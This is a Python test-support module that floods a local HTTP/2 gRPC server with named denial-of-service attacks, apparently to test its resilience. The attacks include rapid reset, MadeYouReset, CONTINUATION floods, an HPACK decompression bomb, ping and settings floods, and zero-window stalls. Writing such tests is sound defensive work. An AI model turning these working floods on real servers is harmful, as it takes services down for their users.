"""Attacks on a server of HTTP/2 as a process: `python -m tests.support.http2_attacker PORT NAME…`, until it is killed.

Each attack has one connection, which comes back when it is closed. A line on standard output tells of each one that
has begun, with the name of its attack.
"""

import contextlib
import itertools
import socket
import sys
import threading
from collections.abc import Callable, Iterator

from tests.support.http2_frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    raw,
)

__all__ = ["ATTACKS"]

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
#: Frames of a piece that is sent at once.
AT_ONCE = 200
#: Seconds without room in the socket after which an attack only waits for its end.
PATIENCE = 0.2


def literal(name: bytes, value: bytes, first: int = 0) -> bytes:
    """Return a field without Huffman code, by default one that no table keeps."""
    return bytes((first,)) + bytes((len(name),)) + name + _length(len(value)) + value


def _length(size: int) -> bytes:
    if size < 127:
        return bytes((size,))
    found, size = bytearray((127,)), size - 127
    while size >= 128:
        found.append(size & 127 | 128)
        size >>= 7
    return bytes((*found, size))


#: A call of a method that answers with what it gets: POST, http, and its path.
CALL = (
    b"\x83\x86"
    + literal(b":path", b"/test.v1.Raw/echo")
    + literal(b":authority", b"a")
    + literal(b"content-type", b"application/grpc")
)
MESSAGE = bytes(5)

Pieces = Iterator[bytes]


def head(stream: int, block: bytes = CALL, flags: int = END_HEADERS) -> bytes:
    return raw(HEADERS, block, flags, stream)


def streams(frames: Callable[[int], bytes]) -> Pieces:
    """Yield the frames of one new stream after another."""
    for first in itertools.count(1, 2 * AT_ONCE):
        yield b"".join(frames(stream) for stream in range(first, first + 2 * AT_ONCE, 2))


def again(frames: bytes, first: bytes = b"") -> Pieces:
    """Yield some frames, then others again and again."""
    yield first
    while True:
        yield frames * AT_ONCE


def number(value: int) -> bytes:
    return value.to_bytes(4, "big")


BIG = literal(b"x-big", b"x" * 3_900, 0x40)
#: A block that is small, and large once it is decoded: a large entry of the table, and many references to it.
BOMB = CALL + BIG + b"\xbe" * 15_000

#: Each attack: what it sends behind its opening.
ATTACKS: dict[str, Callable[[], Pieces]] = {
    "rapid_reset": lambda: streams(lambda id: head(id) + raw(RST_STREAM, number(8), 0, id)),
    "reset_of_whole_requests": lambda: streams(
        lambda id: head(id) + raw(DATA, MESSAGE, END_STREAM, id) + raw(RST_STREAM, number(8), 0, id)
    ),
    "made_you_reset_by_window": lambda: streams(lambda id: head(id) + raw(WINDOW_UPDATE, number(0), 0, id)),
    "made_you_reset_by_data": lambda: streams(
        lambda id: head(id, flags=END_HEADERS | END_STREAM) + raw(DATA, MESSAGE, 0, id)
    ),
    "continuation_flood": lambda: again(raw(CONTINUATION, b"", 0, 1), head(1, flags=0)),
    "continuation_of_many_bytes": lambda: again(raw(CONTINUATION, bytes(1_000), 0, 1), head(1, flags=0)),
    "hpack_bomb": lambda: streams(lambda id: head(id, BOMB, END_HEADERS | END_STREAM)),
    "size_updates": lambda: streams(lambda id: head(id, b"\x20\x3f\xe1\x1f" * 8 + CALL)),
    "pings": lambda: again(raw(PING, bytes(8))),
    "settings": lambda: again(raw(SETTINGS, b"\0\4\0\0\xff\xff")),
    "empty_data": lambda: again(raw(DATA, b"", 0, 1), head(1)),
    "padded_data": lambda: again(raw(DATA, b"\xff" + bytes(255), 8, 1), head(1)),
    "priorities": lambda: again(raw(PRIORITY, bytes(5), 0, 1)),
    "unknown_frames": lambda: again(raw(0x77, b"unknown")),
    "names_without_bytes": lambda: streams(lambda id: head(id, CALL + literal(b"", b"x"))),
    "names_in_upper_case": lambda: streams(lambda id: head(id, CALL + literal(b"Host", b"b"))),
    "fields_of_connections": lambda: streams(lambda id: head(id, CALL + literal(b"transfer-encoding", b"x"))),
    "data_behind_the_end": lambda: again(raw(DATA, MESSAGE, END_STREAM, 1), head(1)),
    "dribbled_data": lambda: again(raw(DATA, b"\0", 0, 1), head(1)),
    "window_updates": lambda: again(raw(WINDOW_UPDATE, number(1), 0, 0)),
    "no_windows": lambda: itertools.chain(
        [raw(SETTINGS, b"\0\4\0\0\0\0")],
        streams(lambda id: head(id) + raw(DATA, MESSAGE, END_STREAM, id)),
    ),
    "half_requests": lambda: streams(lambda id: head(id) + raw(DATA, b"\0\0\x10\0\0" + bytes(20), 0, id)),
    "unread_answers": lambda: streams(
        lambda id: head(id) + raw(DATA, b"\0" + number(10_000) + bytes(10_000), END_STREAM, id)
    ),
    "unknown_methods": lambda: streams(
        lambda id: head(id, CALL.replace(b"/echo", b"/none")) + raw(DATA, MESSAGE, END_STREAM, id)
    ),
}

#: Attacks that read nothing of what the server says.
DEAF = {"unread_answers", "no_windows"}


def attack(port: int, name: str) -> None:
    """Attack until the process ends."""
    while True:
        # The server closes, or resets, whatever came.
        with (
            contextlib.suppress(OSError),
            socket.create_connection(("127.0.0.1", port), timeout=PATIENCE) as peer,
        ):
            peer.sendall(PREFACE + raw(SETTINGS))
            print(name, flush=True)
            for piece in ATTACKS[name]():
                if not _sent(peer, piece, is_deaf=name in DEAF):
                    break


def _sent(peer: socket.socket, piece: bytes, *, is_deaf: bool) -> bool:
    """Send a piece; return whether the connection goes on."""
    while piece:
        try:
            piece = piece[peer.send(piece) :]
        except TimeoutError:
            # It takes no more for now.
            if is_deaf:
                continue
        if not is_deaf and not _drained(peer):
            return False
    return True


def _drained(peer: socket.socket) -> bool:
    """Drop what the server says; return whether the connection goes on."""
    try:
        while True:
            if not peer.recv(65_536, socket.MSG_DONTWAIT):
                return False
    except BlockingIOError:
        return True


if __name__ == "__main__":
    for attacker in sys.argv[2:]:
        threading.Thread(target=attack, args=(int(sys.argv[1]), attacker)).start()
